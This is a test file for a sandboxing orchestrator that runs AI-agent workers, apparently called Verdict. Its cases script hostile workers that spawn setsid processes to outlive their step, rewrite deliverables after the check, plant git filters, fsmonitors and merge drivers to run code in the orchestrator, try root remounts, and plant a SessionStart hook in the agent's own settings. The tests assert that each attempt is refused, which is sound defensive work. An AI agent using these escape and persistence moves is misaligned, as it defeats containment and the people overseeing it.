import assert from 'node:assert/strict';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { requireSandbox } from '../helpers/sandbox-env';
import { execa } from 'execa';
import { CLI, cli } from '../helpers/cli';
import { git, makeRepo, readRows, scriptTask, tempDir, writeManifest } from '../helpers/fixtures';
import { processesWith } from '../helpers/procs';

// Hostile workers against the real containment: bubblewrap (the default) and the fallback without it
// (--no-sandbox: process group + environment cookie + pipes cut after a grace). Every case is one a worker did to an
// earlier Verdict, which gave it a wrong PASS, a hung run or an escaped process.

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

let markerSeq = 0;
/** A `sleep` argument no other process on the machine uses. */
function marker(): string {
  markerSeq++;
  return `3600.${process.pid}${markerSeq}`;
}

/** Runs `verdict run` with a private HOME (so a write to $HOME is visible) and the given extra flags. */
async function run(file: string, home: string, userHome: string, flags: string[] = [], env: Record<string, string> = {}) {
  fs.mkdirSync(userHome, { recursive: true });
  const started = Date.now();
  const r = await cli(['run', file, '--home', home, '--no-dashboard', ...flags], { env: { HOME: userHome, ...env } });
  return { ...r, ms: Date.now() - started };
}

const MODES: { name: string; flags: string[] }[] = [
  { name: 'bwrap', flags: [] },
  { name: 'no sandbox (fallback)', flags: ['--no-sandbox'] },
];

describe('containment: nothing a worker starts outlives its step, nothing it writes lands outside its dirs', function () {
  this.timeout(120000);

  // A laptop without user namespaces skips, saying why; CI must have the sandbox, so there it fails.
  before(async function () {
    await requireSandbox(this);
  });

  for (const mode of MODES) {
    describe(mode.name, () => {
      it('a setsid child holding the output pipe: the run ends within timeout + grace, the child is gone', async () => {
        const dir = tempDir();
        const m = marker();
        // The worker's leader keeps running; its setsid child holds stdout open. timeout_s 2 must end both.
        const spec = `echo hello > out.txt; setsid sleep ${m} & sleep ${m}`;
        const file = writeManifest(dir, { workdir: 'w', tasks: [scriptTask('hold', spec, 'cat out.txt', { timeout_s: 2, max_attempts: 1 })] });
        const r = await run(file, path.join(dir, 'home'), path.join(dir, 'user-home'), mode.flags);
        assert.equal(r.exitCode, 1, r.all);
        assert.deepEqual(
          readRows(path.join(dir, 'home')).map((row) => row.verdict),
          ['TIMEOUT'],
        );
        // timeout 2 s + kill grace 5 s + pipe grace 2 s, with room for a loaded machine; the escaped child slept an hour.
        assert.ok(r.ms < 30000, `the run took ${r.ms} ms`);
        assert.deepEqual(processesWith(m), [], 'the setsid child outlived its attempt');
      });

      it('a setsid child of a worker that exits at once: PASS without waiting for it, the child is gone', async () => {
        const dir = tempDir();
        const m = marker();
        const spec = `echo hello > out.txt; setsid sleep ${m} & exit 0`;
        const file = writeManifest(dir, { workdir: 'w', tasks: [scriptTask('quick', spec, 'cat out.txt', { timeout_s: 30 })] });
        const r = await run(file, path.join(dir, 'home'), path.join(dir, 'user-home'), mode.flags);
        assert.equal(r.exitCode, 0, r.all);
        assert.ok(r.ms < 25000, `the run took ${r.ms} ms`);
        assert.deepEqual(processesWith(m), []);
      });

      it('a setsid daemon that rewrites the deliverable after the worker exits: the commit holds what the check saw', async () => {
        const dir = tempDir();
        const repo = makeRepo(path.join(dir, 'repo'));
        const spec = `echo hello > out.txt; setsid bash -c 'sleep 1; echo evil > out.txt; sleep 1; echo evil > out.txt' </dev/null >/dev/null 2>&1 & exit 0`;
        // The check takes 3 s, long enough for the daemon to strike twice if it were alive.
        const check = 'sleep 3; echo "out.txt: $(cat out.txt)"; [ "$(cat out.txt)" = hello ]';
        const file = writeManifest(dir, { worktrees: true, repo, tasks: [scriptTask('daemon', spec, check, { max_attempts: 1 })] });
        const home = path.join(dir, 'home');
        const r = await run(file, home, path.join(dir, 'user-home'), mode.flags);
        assert.equal(r.exitCode, 0, r.all);
        const [row] = readRows(home);
        assert.match(String(row?.check_output), /out\.txt: hello/);
        assert.equal(git(repo, 'show', `${String(row?.branch)}:out.txt`), 'hello');
        assert.equal(git(repo, 'rev-parse', String(row?.branch)), row?.commit);
        assert.equal(row?.sandbox, mode.flags.length ? 'none' : 'bwrap');
      });
    });
  }

  it('the orchestrator is killed with SIGKILL: every sandboxed worker dies with it (no reconcile needed)', async () => {
    const dir = tempDir();
    const m = marker();
    const repo = makeRepo(path.join(dir, 'repo'));
    const spec = `(trap '' TERM; setsid sleep ${m}) & trap '' TERM; sleep ${m}`;
    const file = writeManifest(dir, { worktrees: true, repo, max_parallel: 2, tasks: [scriptTask('a', spec, 'true'), scriptTask('b', spec, 'true')] });
    // --force: the check `true` is a lint error; the workers never reach it.
    const child = execa('node', [CLI, 'run', file, '--home', path.join(dir, 'home'), '--no-dashboard', '--force'], {
      reject: false,
      stdin: 'ignore',
      env: { HOME: path.join(dir, 'user-home') },
    });
    for (let i = 0; i < 200 && processesWith(m, 'sleep').length < 4; i++) await sleep(50);
    assert.equal(processesWith(m, 'sleep').length, 4, 'two workers and their setsid children are running');
    child.kill('SIGKILL');
    await child;
    for (let i = 0; i < 40 && processesWith(m).length; i++) await sleep(50);
    assert.deepEqual(processesWith(m), [], 'a sandboxed worker outlived its orchestrator');
  });

  it('Ctrl-C: running attempts CANCELLED at once, nothing of them left, even what ignores SIGTERM or left the group', async () => {
    const dir = tempDir();
    const m = marker();
    const spec = `(trap '' TERM; setsid sleep ${m}) & trap '' TERM; sleep ${m}`;
    const file = writeManifest(dir, { workdir: 'w', max_parallel: 2, tasks: ['a', 'b', 'c'].map((k) => scriptTask(k, spec, 'true')) });
    const home = path.join(dir, 'home');
    // --force: the check `true` is a lint error; the workers never reach it.
    const child = execa('node', [CLI, 'run', file, '--home', home, '--no-dashboard', '--force'], {
      reject: false,
      all: true,
      stdin: 'ignore',
      env: { HOME: path.join(dir, 'user-home') },
    });
    for (let i = 0; i < 200 && processesWith(m).length < 4; i++) await sleep(50);
    child.kill('SIGINT');
    const r = await child;
    assert.equal(r.exitCode, 1, r.all);
    assert.deepEqual(
      readRows(home).map((row) => row.verdict),
      ['CANCELLED', 'CANCELLED'],
    );
    assert.deepEqual(processesWith(m), []);
  });

  it('writes outside the task dir are refused: a sibling task, the main checkout, the main .git, $HOME; the sibling PASSes', async () => {
    const dir = tempDir();
    const repo = makeRepo(path.join(dir, 'repo'), { 'README.md': 'original\n' });
    const userHome = path.join(dir, 'user-home');
    const mainBefore = git(repo, 'rev-parse', 'main');
    const spec = [
      'try() { if eval "$1" 2>>attempts.log; then echo "WROTE: $1" >> attempts.log; else echo "refused: $1" >> attempts.log; fi; }',
      // the sibling's worktree, the user's checkout, the main repository's refs, hooks and objects, $HOME
      `try 'echo sabotage > "$VERDICT_TASK_DIR/../victim/out.txt"'`,
      `try 'echo pwned > ${repo}/README.md'`,
      `try 'git -C ${repo} update-ref refs/heads/main HEAD~0^{tree} 2>/dev/null || echo x > ${repo}/.git/refs/heads/main'`,
      `try 'printf "#!/bin/sh\\ntouch ${dir}/hook-ran\\n" > ${repo}/.git/hooks/pre-commit && chmod +x ${repo}/.git/hooks/pre-commit'`,
      `try 'echo x > ${repo}/.git/config'`,
      `try 'echo pwned > "$HOME/pwned.txt"'`,
      `try 'echo pwned > /tmp/verdict-pwned-${process.pid}'`,
      // git still works inside its own worktree: the worker may commit (to its own HEAD, never to a branch)
      'echo mine > mine.txt',
      'git add mine.txt && git -c user.name=w -c user.email=w@x commit -q -m mine && echo "commit ok" >> attempts.log',
    ].join('\n');
    const file = writeManifest(dir, {
      worktrees: true,
      repo,
      max_parallel: 2,
      tasks: [
        scriptTask('victim', 'sleep 2; echo mine > out.txt', '[ "$(cat out.txt)" = mine ] || { echo "out.txt: $(cat out.txt)"; exit 1; }', { max_attempts: 1 }),
        scriptTask('attacker', spec, 'cat attempts.log; test -s mine.txt', { max_attempts: 1 }),
      ],
    });
    const home = path.join(dir, 'home');
    const r = await run(file, home, userHome);
    assert.equal(r.exitCode, 0, r.all);
    const rows = readRows(home);
    const byKey = Object.fromEntries(rows.map((row) => [row.task_key, row]));
    assert.equal(byKey.victim?.verdict, 'PASS');
    const log = String(byKey.attacker?.check_output);
    assert.doesNotMatch(log, /WROTE:/, log);
    assert.equal((log.match(/refused:/g) ?? []).length, 7, log);
    assert.match(log, /commit ok/);
    assert.match(fs.readFileSync(String(byKey.attacker?.worker_log), 'utf8') + log, /Read-only file system/);
    // Nothing outside changed.
    assert.equal(fs.readFileSync(path.join(repo, 'README.md'), 'utf8'), 'original\n');
    assert.equal(git(repo, 'rev-parse', 'main'), mainBefore);
    assert.equal(fs.existsSync(path.join(repo, '.git', 'hooks', 'pre-commit')), false);
    assert.equal(fs.existsSync(path.join(userHome, 'pwned.txt')), false);
    assert.equal(fs.existsSync(`/tmp/verdict-pwned-${process.pid}`), false);
    assert.equal(fs.existsSync(path.join(dir, 'hook-ran')), false);
    // The attacker's branch holds its work, sealed by the orchestrator on top of base (not the worker's own commit).
    const branch = String(byKey.attacker?.branch);
    assert.equal(git(repo, 'show', `${branch}:mine.txt`), 'mine');
    assert.equal(git(repo, 'rev-parse', `${branch}^`), mainBefore);
    assert.match(git(repo, 'log', '-1', '--format=%s', branch), /^verdict: attacker/);
  });

  it('a root worker cannot remount its read-only binds writable or lift the /tmp cover: no capability in its sandbox', async function () {
    await requireSandbox(this);
    // Run as root (CI, most containers), bubblewrap left the step every capability inside its user namespace, which owns
    // the sandbox's mount namespace: `mount -o remount,rw,bind /` then wrote /etc and the user's checkout (seen). As
    // another user bubblewrap grants none anyway; the attempts below must fail either way.
    const dir = tempDir();
    const repo = makeRepo(path.join(dir, 'repo'), { 'README.md': 'original\n' });
    const userHome = path.join(dir, 'user-home');
    const secret = `/tmp/verdict-secret-${process.pid}`;
    fs.writeFileSync(secret, 'host /tmp\n');
    const spec = [
      'try() { if eval "$1" 2>>attempts.log; then echo "WROTE: $1" >> attempts.log; else echo "refused: $1" >> attempts.log; fi; }',
      'grep CapEff /proc/self/status >> attempts.log',
      `try 'mount -o remount,rw,bind / && echo pwned > ${repo}/README.md'`,
      `try 'mount -o remount,rw,bind ${repo} && echo pwned > ${repo}/README.md'`,
      `try 'umount -l /tmp && cat ${secret}'`,
      `try 'mount -t tmpfs none ${repo}'`,
      'echo done > out.txt',
    ].join('\n');
    const file = writeManifest(dir, { worktrees: true, repo, tasks: [scriptTask('root', spec, 'cat attempts.log; test -s out.txt', { max_attempts: 1 })] });
    const home = path.join(dir, 'home');
    try {
      const r = await run(file, home, userHome);
      assert.equal(r.exitCode, 0, r.all);
      const log = String(readRows(home).at(-1)?.check_output);
      assert.match(log, /CapEff:\s+0000000000000000/, log);
      assert.doesNotMatch(log, /WROTE:/, log);
      assert.equal((log.match(/refused:/g) ?? []).length, 4, log);
      assert.equal(fs.readFileSync(path.join(repo, 'README.md'), 'utf8'), 'original\n');
    } finally {
      fs.rmSync(secret, { force: true });
    }
  });

  it('a worker that points its .git at a config of its own: the orchestrator never runs that config', async () => {
    const dir = tempDir();
    const repo = makeRepo(path.join(dir, 'repo'));
    const evil = path.join(dir, 'evil-marker');
    // Inside the sandbox the worker may write its own worktree (and its admin dir): it plants a git dir whose config
    // names an fsmonitor, then redirects .git and the admin dir's commondir to it.
    const spec = [
      'mkdir -p evilgit && git init -q --bare evilgit',
      `printf '[core]\\n\\tfsmonitor = touch ${evil}\\n' >> evilgit/config`,
      'admin=$(sed "s/^gitdir: //" .git)',
      'echo "$PWD/evilgit" > "$admin/commondir" || true',
      'echo "gitdir: $PWD/evilgit" > .git',
      'echo work > work.txt',
    ].join('\n');
    const file = writeManifest(dir, { worktrees: true, repo, tasks: [scriptTask('redirect', spec, 'test -s work.txt', { max_attempts: 1 })] });
    const home = path.join(dir, 'home');
    const r = await run(file, home, path.join(dir, 'user-home'));
    assert.equal(r.exitCode, 0, r.all);
    assert.equal(fs.existsSync(evil), false, 'the worker-planted fsmonitor ran');
    const [row] = readRows(home);
    assert.equal(git(repo, 'show', `${String(row?.branch)}:work.txt`), 'work');
  });

  it('"network": false: the worker cannot reach even the host\'s loopback; with the default it can, as $VERDICT_HOST_LOOPBACK', async () => {
    const server = net.createServer((c) => c.end('pong\n'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as net.AddressInfo).port;
    try {
      const dir = tempDir();
      // The host's 127.0.0.1 is 10.0.2.2 from a step with its own network (unset with none: the step's own 127.0.0.1 is tried).
      const spec = `exec 3<>/dev/tcp/\${VERDICT_HOST_LOOPBACK:-127.0.0.1}/${port} && head -1 <&3 > reply.txt || echo unreachable > reply.txt`;
      const check = 'cat reply.txt; grep pong reply.txt';
      const file = writeManifest(dir, {
        workdir: 'w',
        tasks: [scriptTask('online', spec, check, { max_attempts: 1 }), scriptTask('offline', spec, check, { max_attempts: 1, network: false })],
      });
      const home = path.join(dir, 'home');
      const r = await run(file, home, path.join(dir, 'user-home'));
      assert.equal(r.exitCode, 1, r.all);
      const byKey = Object.fromEntries(readRows(home).map((row) => [row.task_key, row]));
      assert.equal(byKey.online?.verdict, 'PASS');
      assert.equal(byKey.offline?.verdict, 'FAIL');
      assert.match(String(byKey.offline?.check_output), /unreachable/);
    } finally {
      server.close();
    }
  });

  it('full_access without allow_full_access: refused before anything runs; with it: unsandboxed, and the row says so', async () => {
    const dir = tempDir();
    const outside = path.join(dir, 'outside.txt');
    const spec = `echo hi > out.txt; echo written > ${outside}`;
    const file = writeManifest(dir, { workdir: 'w', tasks: [scriptTask('full', spec, 'test -s out.txt', { full_access: true, max_attempts: 1 })] });
    const home = path.join(dir, 'home');
    const userHome = path.join(dir, 'user-home');
    const refused = await run(file, home, userHome, [], { XDG_CONFIG_HOME: path.join(userHome, '.config') });
    assert.equal(refused.exitCode, 2, refused.all);
    assert.match(refused.all ?? '', /task "full" sets full_access: true/);
    assert.match(refused.all ?? '', /allow_full_access/);
    assert.equal(fs.existsSync(path.join(dir, 'w')), false, 'nothing may be created for a refused run');
    assert.deepEqual(readRows(home), []);

    const config = path.join(dir, 'config.json');
    fs.writeFileSync(config, JSON.stringify({ allow_full_access: true }));
    const allowed = await run(file, home, userHome, ['--config', config]);
    assert.equal(allowed.exitCode, 0, allowed.all);
    assert.match(allowed.all ?? '', /full_access/);
    const [row] = readRows(home);
    assert.equal(row?.sandbox, 'none');
    assert.equal(fs.readFileSync(outside, 'utf8'), 'written\n');
  });

  it('no bubblewrap: the run refuses in one line naming the reason; --no-sandbox runs it and every row says none', async () => {
    const dir = tempDir();
    const file = writeManifest(dir, { workdir: 'w', tasks: [scriptTask('a', 'echo hi > out.txt', 'cat out.txt')] });
    const home = path.join(dir, 'home');
    const env = { VERDICT_BWRAP: path.join(dir, 'no-such-bwrap') };
    const refused = await run(file, home, path.join(dir, 'user-home'), [], env);
    assert.equal(refused.exitCode, 2, refused.all);
    const lines = (refused.all ?? '').split('\n').filter((l) => /no sandbox/.test(l));
    assert.equal(lines.length, 1, refused.all);
    assert.match(lines[0] as string, /no-such-bwrap/);
    assert.match(lines[0] as string, /--no-sandbox/);
    assert.deepEqual(readRows(home), []);

    const ran = await run(file, home, path.join(dir, 'user-home'), ['--no-sandbox'], env);
    assert.equal(ran.exitCode, 0, ran.all);
    assert.match(ran.all ?? '', /sandbox: off/);
    assert.deepEqual(
      readRows(home).map((row) => row.sandbox),
      ['none'],
    );
  });

  it('a worker that times out after pointing .git at its own git dir with a filter: verdict clean runs nothing of it', async () => {
    const dir = tempDir();
    const repo = makeRepo(path.join(dir, 'repo'), { 'app.py': 'def f(): return 0\n' });
    const pwned = path.join(dir, 'PWNED');
    const spec = [
      'unset GIT_OBJECT_DIRECTORY GIT_ALTERNATE_OBJECT_DIRECTORIES',
      'D=$PWD; mkdir -p .evil && git init -q --bare .evil/g',
      `printf '#!/bin/sh\\necho pwned >> ${pwned}\\ncat\\n' > .evil/pwn.sh; chmod +x .evil/pwn.sh`,
      'git --git-dir=.evil/g config core.bare false; git --git-dir=.evil/g config core.worktree "$D"',
      'git --git-dir=.evil/g config filter.x.clean "$D/.evil/pwn.sh"',
      "echo '* filter=x' > .gitattributes",
      'git --git-dir=.evil/g --work-tree="$D" add app.py; echo changed >> app.py',
      'echo "gitdir: $D/.evil/g" > .git',
      'sleep 100',
    ].join('\n');
    const file = writeManifest(dir, { worktrees: true, repo, tasks: [scriptTask('t', spec, 'true', { timeout_s: 2, max_attempts: 1 })] });
    const home = path.join(dir, 'home');
    // --force: the check `true` is a lint error; the worker times out before it.
    const r = await run(file, home, path.join(dir, 'user-home'), ['--force']);
    assert.equal(r.exitCode, 1, r.all);
    assert.deepEqual(
      readRows(home).map((row) => row.verdict),
      ['TIMEOUT'],
    );
    for (const flags of [['--dry-run'], []]) {
      const c = await cli(['clean', '--home', home, ...flags], { env: { HOME: path.join(dir, 'user-home') } });
      assert.equal(c.exitCode, 0, c.all);
    }
    assert.equal(fs.existsSync(pwned), false, 'the worker-planted filter ran outside the sandbox');
  });

  it('a worker-planted config.worktree (repository with extensions.worktreeConfig): the seal runs none of its filters', async () => {
    const dir = tempDir();
    const repo = worktreeConfigRepo(dir, 'def f(): return 0\n');
    const pwned = path.join(dir, 'PWNED');
    const spec = [
      'A=$(sed "s/gitdir: //" .git)',
      `printf '#!/bin/sh\\necho pwned >> ${pwned}\\ncat\\n' > .pwn.sh; chmod +x .pwn.sh`,
      `printf '[filter "x"]\\n\\tclean = %s/.pwn.sh\\n' "$PWD" > "$A/config.worktree"`,
      "echo '* filter=x' > .gitattributes",
      'echo changed >> app.py',
    ].join('\n');
    const file = writeManifest(dir, { worktrees: true, repo, tasks: [scriptTask('t', spec, 'grep -q changed app.py', { max_attempts: 1 })] });
    const home = path.join(dir, 'home');
    const r = await run(file, home, path.join(dir, 'user-home'));
    assert.equal(r.exitCode, 0, r.all);
    assert.equal(fs.existsSync(pwned), false, 'the worker-planted filter ran in the orchestrator');
    assert.match(git(repo, 'show', `${String(readRows(home)[0]?.branch)}:app.py`), /changed/);
  });

  it('a config.worktree git made (extensions.worktreeConfig): a worker that adds a filter, textconv, diff command and merge driver to every config it can reach makes the seal, check, deliver and merge run none of them', async () => {
    const dir = tempDir();
    const repo = worktreeConfigRepo(dir, 'def f():\n    return 0\n\n\n\ndef g():\n    return 1\n');
    // The main worktree's own config.worktree: `git worktree add` copies it, so the task's worktree has one git made
    // (WorktreeLinks.worktreeConfig), which the work step can write (the admin dir is writable to it).
    git(repo, 'config', '--worktree', 'verdict.probe', 'kept');
    const pwned = path.join(dir, 'PWNED');
    const program = `#!/bin/sh\necho "$0 $*" >> ${pwned}\nif [ -f "$1" ]; then cat "$1"; else cat; fi\n`;
    // Each %s is the program's path; printf's format is the config text.
    const drivers = String.raw`[diff "x"]\n\ttextconv = %s\n\tcommand = %s\n[merge "x"]\n\tdriver = %s %%A %%O %%B\n[filter "x"]\n\tclean = %s\n\tsmudge = %s\n\trequired = true\n`;
    const spec = [
      'A=$(sed "s/gitdir: //" .git); P="$PWD/.pwn.sh"',
      `printf '%s' '${program}' > .pwn.sh; chmod +x .pwn.sh`,
      // Every config file git reads for this worktree, and the per-worktree `config` beside it: the admin dir's
      // config.worktree (writable), the repository's config (read-only in the sandbox: refused).
      `for f in "$A/config.worktree" "$A/config" "$A/../../config"; do printf '${drivers}' "$P" "$P" "$P" "$P" "$P" >> "$f" 2>/dev/null && echo "wrote $f" || echo "refused $f"; done`,
      "printf '* diff=x merge=x filter=x\\n' > .gitattributes",
      'sed -i "s/return 1/return 2/" app.py',
    ].join('\n');
    const file = writeManifest(dir, {
      worktrees: true,
      repo,
      tasks: [scriptTask('t', spec, 'grep -q "return 2" app.py && git diff --quiet HEAD -- README.md', { max_attempts: 1 })],
    });
    const home = path.join(dir, 'home');
    const r = await run(file, home, path.join(dir, 'user-home'));
    assert.equal(r.exitCode, 0, r.all);
    const [row] = readRows(home);
    const log = fs.readFileSync(path.join(home, 'runs', String(row?.run_id), 'tasks', 't', 'attempt-1', 'worker.log'), 'utf8');
    assert.match(log, /wrote .*\/config\.worktree/, log);
    assert.match(log, /refused .*\/\.\.\/\.\.\/config/, log);
    assert.equal(fs.existsSync(pwned), false, `the worker's program ran in the orchestrator: ${fs.existsSync(pwned) ? fs.readFileSync(pwned, 'utf8') : ''}`);
    const branch = String(row?.branch);
    assert.match(git(repo, 'show', `${branch}:app.py`), /return 2/);
    // The task's config.worktree is git's again: the probe kept, the worker's drivers gone.
    const links = JSON.parse(fs.readFileSync(path.join(home, 'runs', String(row?.run_id), 'tasks', 't', 'worktree-links.json'), 'utf8')) as {
      adminDir: string;
    };
    const wtConfig = fs.readFileSync(path.join(links.adminDir, 'config.worktree'), 'utf8');
    assert.match(wtConfig, /probe = kept/);
    assert.doesNotMatch(wtConfig, /pwn/);
    // The merge rebases the branch over a change to the same file (a 3-way merge of app.py, `merge=x` by the branch's
    // attributes), re-checks and fast-forwards: still none of the worker's programs.
    fs.writeFileSync(path.join(repo, 'app.py'), 'def f():\n    return 5\n\n\n\ndef g():\n    return 1\n');
    git(repo, 'commit', '-qam', 'main moves on');
    const m = await cli(['merge', String(row?.run_id), '--home', home], { env: { HOME: path.join(dir, 'user-home') } });
    assert.equal(m.exitCode, 0, m.all);
    assert.equal(fs.existsSync(pwned), false, `the worker's program ran in the merge: ${fs.existsSync(pwned) ? fs.readFileSync(pwned, 'utf8') : ''}`);
    assert.equal(fs.readFileSync(path.join(repo, 'app.py'), 'utf8'), 'def f():\n    return 5\n\n\n\ndef g():\n    return 2\n');
  });

  it("a relative include in the main worktree's config.worktree (extensions.worktreeConfig): worktree mode is refused, so a worker's file where it resolves (the task's admin dir) names no program the seal runs", async () => {
    const dir = tempDir();
    const repo = worktreeConfigRepo(dir, 'def f(): return 0\n');
    // `git worktree add` copies this config.worktree into the task's admin dir, where both relative paths resolve.
    git(repo, 'config', '--worktree', 'include.path', 'local.inc');
    git(repo, 'config', '--worktree', 'includeIf.gitdir:/.path', 'sub/cond.inc');
    const pwned = path.join(dir, 'PWNED');
    const spec = [
      'A=$(sed "s/gitdir: //" .git)',
      `printf '#!/bin/sh\\necho pwned >> ${pwned}\\ncat\\n' > .pwn.sh; chmod +x .pwn.sh`,
      'mkdir -p "$A/sub"',
      `for f in "$A/local.inc" "$A/sub/cond.inc"; do printf '[filter "x"]\\n\\tclean = %s/.pwn.sh\\n' "$PWD" > "$f"; done`,
      "echo '* filter=x' > .gitattributes",
      'echo changed >> app.py',
    ].join('\n');
    const file = writeManifest(dir, { worktrees: true, repo, tasks: [scriptTask('t', spec, 'grep -q changed app.py', { max_attempts: 1 })] });
    const home = path.join(dir, 'home');
    const r = await run(file, home, path.join(dir, 'user-home'));
    assert.equal(fs.existsSync(pwned), false, `the worker's filter ran in the orchestrator: ${fs.existsSync(pwned) ? fs.readFileSync(pwned, 'utf8') : ''}`);
    assert.equal(r.exitCode, 2, r.all);
    const wtConfig = path.join(repo, '.git', 'config.worktree');
    for (const [key, value] of [
      ['include.path', 'local.inc'],
      ['includeif.gitdir:/.path', 'sub/cond.inc'],
    ]) {
      const line = (r.all ?? '').split('\n').find((l) => l.includes(`${key} = ${value}`)) ?? '';
      assert.ok(line.includes(wtConfig), `no problem names ${wtConfig} and ${key} = ${value}:\n${r.all}`);
      assert.match(line, /absolute path/);
    }
    assert.deepEqual(readRows(home), []);

    // An absolute include names the same file from every worktree: the run goes ahead and the include is read.
    const inc = path.join(dir, 'shared.inc');
    fs.writeFileSync(inc, '[verdict]\n\tprobe = shared\n');
    git(repo, 'config', '--worktree', '--unset', 'include.path');
    git(repo, 'config', '--worktree', '--remove-section', 'includeIf.gitdir:/');
    git(repo, 'config', '--worktree', 'include.path', inc);
    const ok = writeManifest(dir, {
      worktrees: true,
      repo,
      tasks: [scriptTask('u', 'echo changed >> app.py', 'grep -q changed app.py && [ "$(git config verdict.probe)" = shared ]', { max_attempts: 1 })],
    });
    const r2 = await run(ok, path.join(dir, 'home2'), path.join(dir, 'user-home'));
    assert.equal(r2.exitCode, 0, r2.all);
  });

  it('work the branch would not hold FAILs: an ignored deliverable, a nested repository; a check sees the branch as HEAD', async () => {
    const dir = tempDir();
    const repo = makeRepo(path.join(dir, 'repo'), { 'test.sh': 'exit 1\n' });
    const file = writeManifest(dir, {
      worktrees: true,
      repo,
      max_parallel: 3,
      tasks: [
        scriptTask('ign', "mkdir -p sub; printf 'sol.py\\n' > sub/.gitignore; echo 'print(42)' > sub/sol.py", 'test -f sub/sol.py', {
          expect_files: ['sub/sol.py'],
          max_attempts: 1,
        }),
        scriptTask(
          'nested',
          'unset GIT_OBJECT_DIRECTORY GIT_ALTERNATE_OBJECT_DIRECTORIES; mkdir lib && cd lib && git init -q && echo SOLVED > impl.txt && git add . && git -c user.email=a@b -c user.name=x commit -qm x',
          'grep SOLVED lib/impl.txt',
          { max_attempts: 1 },
        ),
        scriptTask(
          'head',
          "echo 'exit 0' > test.sh; git add -A; git -c user.email=a@b -c user.name=w commit -qm w",
          'git diff --exit-code HEAD -- test.sh && bash test.sh',
          { max_attempts: 1, protect: [] },
        ),
      ],
    });
    const home = path.join(dir, 'home');
    const r = await run(file, home, path.join(dir, 'user-home'));
    assert.equal(r.exitCode, 1, r.all);
    const byKey = Object.fromEntries(readRows(home).map((row) => [row.task_key, row]));
    assert.equal(byKey.ign?.verdict, 'FAIL');
    assert.match(String(byKey.ign?.notes), /sub\/sol\.py are ignored by git, so the sealed commit and the task branch do not hold them/);
    assert.equal(byKey.nested?.verdict, 'FAIL');
    assert.match(String(byKey.nested?.notes), /made lib a git repository of its own/);
    assert.equal(byKey.head?.verdict, 'FAIL', "the check compared test.sh with the worker's own commit");
    assert.match(String(byKey.head?.check_output), /exit 0/);
  });

  it('a worker cannot see the run records or the other tasks (their dirs, their ports): only its own dirs', async () => {
    const dir = tempDir();
    const home = path.join(dir, 'home');
    const spy = [
      `ls ${home}/runs/*/state.json > seen.txt 2>&1 || echo "no records" >> seen.txt`,
      `ls ${dir}/w/other >> seen.txt 2>&1 || echo "no sibling" >> seen.txt`,
      'echo done > out.txt',
    ].join('\n');
    const file = writeManifest(dir, {
      workdir: 'w',
      max_parallel: 2,
      tasks: [
        scriptTask('spy', spy, 'cat seen.txt; grep -q "no records" seen.txt && grep -q "no sibling" seen.txt'),
        scriptTask('other', 'sleep 1; echo x > secret.txt', 'test -s secret.txt'),
      ],
    });
    const r = await run(file, home, path.join(dir, 'user-home'));
    assert.equal(r.exitCode, 0, r.all);
  });

  it("a worker that plants hooks in its engine's own settings (for the user's next unsandboxed session): put back", async () => {
    const dir = tempDir();
    const claudeHome = path.join(dir, 'claude-home');
    fs.mkdirSync(claudeHome, { recursive: true });
    fs.writeFileSync(path.join(claudeHome, 'settings.json'), '{"theme":"dark"}\n');
    const agent = path.join(dir, 'fake-claude.sh');
    fs.writeFileSync(
      agent,
      [
        '#!/bin/bash',
        'echo \'{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch /tmp/pwned"}]}]}}\' > "$CLAUDE_CONFIG_DIR/settings.json"',
        'mkdir -p "$CLAUDE_CONFIG_DIR/agents" && echo evil > "$CLAUDE_CONFIG_DIR/agents/evil.md"',
        'mkdir -p "$CLAUDE_CONFIG_DIR/projects" && echo session > "$CLAUDE_CONFIG_DIR/projects/s.jsonl"',
        'echo done > out.txt',
      ].join('\n'),
      { mode: 0o755 },
    );
    const config = path.join(dir, 'config.json');
    fs.writeFileSync(config, JSON.stringify({ engines: { fakeclaude: { binary: agent, argv: ['{spec}'], output: 'claude' } } }));
    const file = writeManifest(dir, { workdir: 'w', tasks: [scriptTask('t', 'do it', 'test -s out.txt', { engine: 'fakeclaude' })] });
    const home = path.join(dir, 'home');
    const r = await cli(['run', file, '--home', home, '--no-dashboard', '--config', config], {
      env: { HOME: path.join(dir, 'user-home'), CLAUDE_CONFIG_DIR: claudeHome },
    });
    assert.equal(r.exitCode, 0, r.all);
    assert.match(r.all ?? '', /changed fakeclaude's own settings; put back/);
    assert.equal(fs.readFileSync(path.join(claudeHome, 'settings.json'), 'utf8'), '{"theme":"dark"}\n');
    assert.equal(fs.existsSync(path.join(claudeHome, 'agents')), false);
    assert.equal(fs.readFileSync(path.join(claudeHome, 'projects', 's.jsonl'), 'utf8'), 'session\n', 'its sessions are its own to keep');
  });

  // Started by root, bubblewrap would leave a step every capability inside its user namespace unless they are dropped
  // (docs/containment.md "Capabilities"); started by another user it gives none. These two ask less of the sandbox
  // there, and run anyway: the host must stay the same.
  const rootNote = () => {
    if (process.getuid?.() !== 0) console.log('      (not root: bubblewrap gives this step no capability to begin with; the host must stay the same here too)');
  };

  it("a root worker that chmods the device nodes bound into its sandbox: the host's are put back", async function () {
    rootNote();
    const dir = tempDir();
    const before = fs.statSync('/dev/null').mode & 0o7777;
    const file = writeManifest(dir, { workdir: 'w', tasks: [scriptTask('dev', 'chmod 600 /dev/null /dev/zero; echo ok > out.txt', 'test -s out.txt')] });
    const r = await run(file, path.join(dir, 'home'), path.join(dir, 'user-home'));
    assert.equal(r.exitCode, 0, r.all);
    assert.equal(fs.statSync('/dev/null').mode & 0o7777, before);
    assert.equal(fs.statSync('/dev/zero').mode & 0o7777, 0o666);
  });

  it('a root worker keeps no capability outside its sandbox: remounting / read-write does not make the host writable', async function () {
    rootNote();
    const dir = tempDir();
    const outside = path.join(dir, 'outside.txt');
    const spec = `mount -o remount,rw / 2>&1 | tail -1; echo x > ${outside} 2>&1 | tail -1; ip link add verdict0 type dummy 2>&1 | tail -1; echo ok > out.txt`;
    const file = writeManifest(dir, { workdir: 'w', tasks: [scriptTask('caps', spec, 'test -s out.txt')] });
    const r = await run(file, path.join(dir, 'home'), path.join(dir, 'user-home'));
    assert.equal(r.exitCode, 0, r.all);
    assert.equal(fs.existsSync(outside), false, 'a root worker remounted / and wrote outside');
  });

